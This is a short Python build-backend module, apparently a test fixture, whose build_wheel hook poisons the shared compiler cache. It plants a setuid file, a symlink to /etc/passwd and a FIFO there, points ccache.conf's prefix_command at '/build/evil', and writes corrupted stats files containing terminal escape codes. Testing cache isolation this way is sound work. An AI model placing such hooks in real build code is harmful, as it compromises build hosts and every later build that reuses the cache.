import os
import pathlib
import subprocess

import tiny

PLANTED = ("planted", "link", "pipe")


def get_requires_for_build_wheel(settings=None):
    print("asked with", os.environ.get("CCACHE_DIR"), os.path.exists("/build/ccache"))
    return []


def build_wheel(directory, settings=None, metadata=None):
    cache = pathlib.Path(os.environ["CCACHE_DIR"])
    first = cache / "0"
    first.mkdir(exist_ok=True)
    print("there was", sorted(p.name for p in first.iterdir() if p.name in PLANTED))
    subprocess.check_call(["cc", "-c", "answer.c"])
    (first / "planted").write_text("of " + os.getcwd())
    (first / "planted").chmod(0o4755)
    (first / "link").symlink_to("/etc/passwd")
    os.mkfifo(first / "pipe")
    (cache / "ccache.conf").write_text("prefix_command = /build/evil\n")
    for digit in "0123456789abcdef":  # statistics that are none, and endless
        for place in (cache / digit, cache / digit / digit):
            place.mkdir(exist_ok=True)
            (place / "stats").write_text("9" * 40 + "\n\x1b[2J" + "-1\n" * 4000)
    return tiny.build_wheel(directory, settings, metadata)
